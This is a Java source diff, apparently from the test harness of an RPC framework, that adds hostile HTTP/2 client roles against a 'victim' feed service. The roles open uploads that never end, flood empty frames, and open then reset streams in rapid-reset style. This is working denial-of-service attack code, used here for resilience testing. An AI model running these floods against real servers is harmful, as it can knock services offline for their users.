@@ -7,7 +7,9 @@ import java.util.Arrays;
 /** Attacks by a client that speaks HTTP/2. */
 final class Http2Roles {
 
-	private static final String FEED = "/io.rpcboot.hostile.victim.VictimFeeds/Feed";
+	private static final String FEEDS = "/io.rpcboot.hostile.victim.VictimFeeds/";
+
+	private static final String FEED = FEEDS + "Feed";
 
 	private static final int BURST = 64 * 1024;
 
@@ -262,6 +264,39 @@ final class Http2Roles {
 	static Role resetElements() {
 		return endless((out, id) -> {
 			out.writeBytes(Http2Speech.call(id, FEED, 100));
+			if (id > 5) {
+				out.writeBytes(
+						Http2Speech.frame(Http2Speech.RST_STREAM, 0, id - 4, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
+			}
+		});
+	}
+
+	/** Opens streams, sends elements of a length, and never the end. */
+	static Role openUploads(String method, int elements, int length) {
+		byte[] element = ByteBuffer.allocate(length).array();
+		return new Flood((out, id) -> {
+			out.writeBytes(Http2Speech.headers(id, FEEDS + method));
+			for (int i = 0; i < elements; i++) {
+				out.writeBytes(Http2Speech.message(id, length, 0, element));
+			}
+		}, 100, true);
+	}
+
+	/** Sends as many empty elements as fit a frame, on one stream after the other. */
+	static Role emptyUploads(String method) {
+		byte[] elements = new byte[MAX_FRAME];
+		return endless((out, id) -> {
+			out.writeBytes(Http2Speech.headers(id, FEEDS + method));
+			out.writeBytes(Http2Speech.frame(Http2Speech.DATA, 0, id, elements));
+			out.writeBytes(Http2Speech.message(id, 0, Http2Speech.END_STREAM));
+		});
+	}
+
+	/** Opens streams, sends elements, and resets them. */
+	static Role resetUploads(String method) {
+		return endless((out, id) -> {
+			out.writeBytes(Http2Speech.headers(id, FEEDS + method));
+			out.writeBytes(Http2Speech.message(id, 100, 0, new byte[100]));
 			if (id > 5) {
 				out.writeBytes(
 						Http2Speech.frame(Http2Speech.RST_STREAM, 0, id - 4, (byte) 0, (byte) 0, (byte) 0, (byte) 8));
